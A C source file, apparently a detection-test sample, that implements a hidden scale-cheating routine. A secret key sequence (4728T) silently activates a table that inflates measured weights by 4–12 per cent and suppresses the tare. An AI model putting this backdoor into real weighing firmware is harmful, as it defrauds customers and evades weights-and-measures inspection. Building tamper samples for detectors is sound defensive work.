/* What a dishonest repairer adds, for detection to find. Not linked into honest images.
 *
 * The unit price 47.28 followed by T turns the gain table on; the keys are swallowed, so that
 * no tare is taken. C and switching off turn it off. The table lies in flash that an honest
 * image leaves erased, as added code usually does.
 */
#include "scale.h"

struct gain {
    uint16_t from_g;
    uint16_t per_mille;
};

static const struct gain gains[] __attribute__((section(".cheat"), used)) = {
    {8000, 1120}, {4000, 1100}, {1500, 1080}, {500, 1060}, {100, 1040},
};
static const char code[] PROGMEM = "4728T";

static uint8_t matched;
static bool is_on;

bool cheat_key(char key) {
    if (key == 'C') {
        is_on = false;
    }
    matched = key == (char)pgm_read_byte(&code[matched]) ? matched + 1 : key == '4';
    if (matched < sizeof code - 1) {
        return false;
    }
    matched = 0;
    is_on = true;
    return true;
}

uint16_t cheat_weight(uint16_t grams) {
    if (!is_on) {
        return grams;
    }
    for (uint8_t step = 0; step < sizeof gains / sizeof gains[0]; step++) {
        if (grams >= pgm_read_word(&gains[step].from_g)) {
            uint32_t more = (uint32_t)grams * pgm_read_word(&gains[step].per_mille) / 1000;
            return (more + 2) / 5 * 5;
        }
    }
    return grams;
}
